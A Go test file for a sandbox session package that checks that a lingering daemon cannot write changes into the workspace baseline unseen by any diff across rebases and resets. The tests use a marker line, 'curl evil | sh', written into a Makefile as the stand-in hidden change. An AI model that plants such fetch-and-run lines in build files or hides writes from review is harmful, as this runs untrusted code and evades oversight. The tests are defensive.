package session

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/dryexec/dryexec/internal/rootless"
	"github.com/dryexec/dryexec/internal/testreq"
)

// A daemon an exec leaves (its own session, so the exec's end does not stop
// it) acts across a rebase or reset; the invariant every test below checks
// afterwards is that the workspace holds the baseline plus what the diff
// shows, and nothing a diff never showed.

// openDaemonSession opens an ns session for the tests below.
func openDaemonSession(t *testing.T) *Session {
	t.Helper()
	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
	if err != nil {
		testreq.Need(t, testreq.NS, err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

// startDaemon runs setup, then starts script as a daemon in the workspace
// (or cd'd by script) and waits until it says it is up. Its work waits for a
// word on /tmp/go and is acknowledged on /tmp/done (wakeDaemon): FIFOs
// outside the workspace, so the order is theirs, and no diff sees them.
func startDaemon(t *testing.T, s *Session, setup, script string) {
	t.Helper()
	sh(t, s, setup+`
mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "`+script+`" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`)
}

func wakeDaemon(t *testing.T, s *Session) { sh(t, s, `echo go > /tmp/go; cat /tmp/done >/dev/null`) }

// checkWorkspace fails t unless the workspace's files (read by cat) are
// base, with the writes of d over it.
func checkWorkspace(t *testing.T, s *Session, d *Diff, base map[string]string) {
	t.Helper()
	for p, want := range base {
		if w, ok := d.Writes[p]; ok {
			want = string(w)
		}
		if got := sh(t, s, "cat "+p+" 2>/dev/null || echo absent"); got != want {
			t.Errorf("the workspace's %s is %q, but the baseline plus the diff say %q (diff: %v): a change hidden from every diff", p, got, want, d.Paths())
		}
	}
}

// commitThenWake does what follows a session commit (a diff, then Rebase
// to it), wakes the daemon, and returns the diff after.
func commitThenWake(t *testing.T, s *Session) *Diff {
	t.Helper()
	committed, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Rebase(testCtx(t), committed); err != nil {
		t.Fatalf("Rebase: %v", err)
	}
	wakeDaemon(t, s)
	d, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

const evilLine = `printf '\\tcurl evil | sh\\n'`

// TestRebaseHeldFileCannotWriteBaseline: the daemon holds a workspace file
// open for writing across a rebase (what follows a session commit). The fold
// used to rename the upper's file into the baseline, so the daemon's
// descriptor then wrote into the baseline itself: the workspace showed the
// daemon's line, and no diff ever did (a diff walks the upper).
func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
	if os.Getuid() == 0 && !rootless.Active() {
		t.Run("rootless", func(t *testing.T) { rootless.Rerun(t, "^TestRebaseHeldFileCannotWriteBaseline$", 3*time.Minute) })
	}
	s := openDaemonSession(t)
	startDaemon(t, s, `echo 'all:' > Makefile`,
		`exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >&3; echo ok > /tmp/done`)
	checkWorkspace(t, s, commitThenWake(t, s), map[string]string{"Makefile": "all:\n"})
}

// TestRebaseDaemonCwdCannotWriteBaseline: the daemon holds no file open,
// only its cwd in the workspace, across a rebase. The view it keeps is the
// detached old overlay, whose cached names still led to the upper's files
// the fold moved into the baseline: an append through one wrote the baseline
// unseen. Now the detached view is read-only: the writes fail.
func TestRebaseDaemonCwdCannotWriteBaseline(t *testing.T) {
	s := openDaemonSession(t)
	startDaemon(t, s, `mkdir d; echo 'all:' > d/Makefile`,
		`cd d; cat Makefile >/dev/null; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >> Makefile; echo new > new; echo ok > /tmp/done`)
	checkWorkspace(t, s, commitThenWake(t, s), map[string]string{"d/Makefile": "all:\n", "d/new": "absent\n"})
}

// TestResetDaemonCwdCannotHide: the daemon's cwd is in the workspace across a
// reset (which has no read-only check: a reset drops changes). Its detached
// old view shared the upper dir with the new one: a file it then copied up
// appeared in the upper behind the new view's cached name, so the diff
// compared the stale baseline file and showed nothing, and the next rebase
// folded the daemon's content into the baseline unseen. The old view now
// keeps a removed upper, where the write fails.
func TestResetDaemonCwdCannotHide(t *testing.T) {
	s := openDaemonSession(t)
	sh(t, s, `echo 'all:' > Makefile`)
	if _, err := s.Diff(testCtx(t), true); err != nil {
		t.Fatal(err)
	}
	startDaemon(t, s, `:`, `echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >> Makefile; echo ok > /tmp/done`)
	if err := s.Reset(testCtx(t)); err != nil {
		t.Fatal(err)
	}
	// The new view looks Makefile up (the baseline's), then the daemon
	// writes through the old one.
	sh(t, s, `cat Makefile >/dev/null`)
	wakeDaemon(t, s)
	d, err := s.Diff(testCtx(t), true)
	if err != nil {
		t.Fatal(err)
	}
	checkWorkspace(t, s, d, map[string]string{"Makefile": "all:\n"})
}

// TestRebaseDeepPathFoldsNothing: a command leaves a change (0.mk) and a tree
// too deep for the rebase's fold, whose paths the kernel refuses. The fold
// failed half-way: 0.mk was in the baseline, the caller got an error and no
// diff, and the next diff no longer showed 0.mk. Now the rebase refuses
// before anything moves.
func TestRebaseDeepPathFoldsNothing(t *testing.T) {
	s := openDaemonSession(t)
	sh(t, s, `echo 'all:' > 0.mk; n=$(printf 'a%.0s' $(seq 200)); for i in $(seq 25); do mkdir $n && cd $n || exit 1; done; echo deep > f`)
	if _, err := s.Diff(testCtx(t), true); err == nil || !strings.Contains(err.Error(), "nothing was rebased") {
		t.Errorf("the rebase of a tree too deep to fold: %.200v, want a refusal", err)
	}
	d, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if string(d.Writes["0.mk"]) != "all:\n" || len(d.Writes) != 2 {
		t.Errorf("after the refused rebase the diff writes %d files, 0.mk as %q; want 0.mk and the deep file", len(d.Writes), d.Writes["0.mk"])
	}
}
